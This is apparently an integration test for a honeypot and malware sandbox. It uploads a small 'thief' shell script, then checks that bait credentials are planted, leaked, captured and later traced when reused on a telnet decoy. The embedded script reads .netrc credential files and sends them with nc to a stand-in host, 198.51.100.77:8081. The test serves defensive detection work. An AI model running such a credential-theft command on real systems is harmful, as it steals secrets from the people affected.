#!/bin/bash
# A sample steals credentials out of its box; whoever uses them at a decoy has them from that run of that sample.
. "$(dirname "$0")/lib.sh"
for tool in jq curl python3 bwrap; do [ -n "$(command -v $tool)" ] || skip "needs $tool"; done
need_root

DECOY=127.24.0.1 SERVER=127.24.0.2 # where files are left; what the stolen files name
loopback_config <<-EOT
	passive:
	  decoys: [{prefix: $DECOY, personas: [webserver]}, {prefix: $SERVER, personas: [dvr]}]
	  services: {http: {ports: [$HTTP_PORT]}, telnet: {ports: [$TELNET_PORT]}}
	  workers: 1
	lab: {run: {on: true, time: 8s}, bait: $SERVER}
EOT
# A thief: what it finds in its home goes to its server, in clear, as malware of that sort does.
cat >"$WORK/thief" <<'EOT'
#!/bin/sh
# 198.51.100.77 takes what is found
S=$(cat $HOME/.netrc /root/.netrc /home/admin/.netrc 2>/dev/null | tr '\n' ' ')
(echo "LOOT $S"; sleep 1) | nc 198.51.100.77 8081
sleep 2
EOT
start_kansoku --only journal,store,control,passive,lab,web
curl -sS -m 20 -o /dev/null -F "file=@$WORK/thief" "http://$DECOY:$HTTP_PORT/upload.php" || fail "the upload failed"
sha=$(sha256sum <"$WORK/thief" | cut -c1-64)

value() { echo "value[indexOf(field, '$1')]"; }
wait_for() { # what SQL
	for _ in $(seq 150); do
		[ "$(query "SELECT count() > 0 FROM log WHERE $2" 2>/dev/null)" = 1 ] && return
		sleep 0.2
	done
	fail "$1 did not come: $(query "SELECT kind, src, field, value FROM log WHERE kind IN ('sample.analysed','token.planted','token.leaked','token.used')")"
}
wait_for "the analysis" "kind = 'sample.analysed' AND file_sha256 = '$sha'"
wait_for "that bait was planted" "kind = 'token.planted' AND file_sha256 = '$sha' AND $(value bait.kind) = 'sample'"
wait_for "that it was to be sent" "kind = 'token.leaked' AND file_sha256 = '$sha' AND $(value indicator.value) = '198.51.100.77:8081'"
[ "$(query "SELECT count() FROM log WHERE kind = 'token.planted' AND file_sha256 = '$sha'")" = 2 ] || fail "two runs, two plantings"
[ "$(query "SELECT count() FROM log WHERE kind = 'token.leaked' AND $(value bait.path) LIKE '/%netrc'")" -ge 1 ] || fail "from which file?"

# What its server would have got, as the report's capture has it; nothing of it left the box.
curl -sS "http://127.0.0.1:$WEB_PORT/api/v1/samples/$sha/capture" >"$WORK/capture.pcap"
loot=$(strings -n 8 "$WORK/capture.pcap" | grep -m1 LOOT) || fail "no loot in the capture"
user=$(sed 's/.*login \([a-z]*\) .*/\1/' <<<"$loot") password=$(sed 's/.*password \([A-Za-z0-9]*\).*/\1/' <<<"$loot")
[ ${#password} = 16 ] || fail "no password in: $loot"

# The thief's customer comes from elsewhere, days later.
python3 - "$SERVER" "$TELNET_PORT" "$user" "$password" >"$WORK/said" <<-'EOT'
	import socket, sys, time
	s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10, ("127.3.3.3", 0))
	s.settimeout(5)
	def until(word):
	    got = b""
	    while word not in got.lower():
	        b = s.recv(4096)
	        if not b: break
	        got += b
	    return got
	until(b"ogin:"); s.sendall(sys.argv[3].encode() + b"\r\n")
	until(b"assword:"); s.sendall(sys.argv[4].encode() + b"\r\n")
	time.sleep(1); s.sendall(b"id\r\n"); time.sleep(1)
	print(s.recv(4096))
EOT
grep -q uid= "$WORK/said" || fail "stolen credentials did not open the decoy: $(cat "$WORK/said")"
wait_for "that bait was used" "kind = 'token.used' AND src = '127.3.3.3' AND file_sha256 = '$sha' AND $(value bait.kind) = 'sample'" 2>/dev/null
# The chain goes from the file that was captured, over the planting, to the log-in.
[ "$(query "SELECT count() FROM log AS u INNER JOIN (SELECT id, root FROM log WHERE kind = 'token.planted') AS p ON u.cause = p.id
	WHERE u.kind = 'token.used' AND u.root = p.root")" -ge 1 ] || fail "token.used does not follow from token.planted"
stop_kansoku || fail "kansoku did not end cleanly"
echo "ok: a password stolen in a box opened the decoy and named the sample"
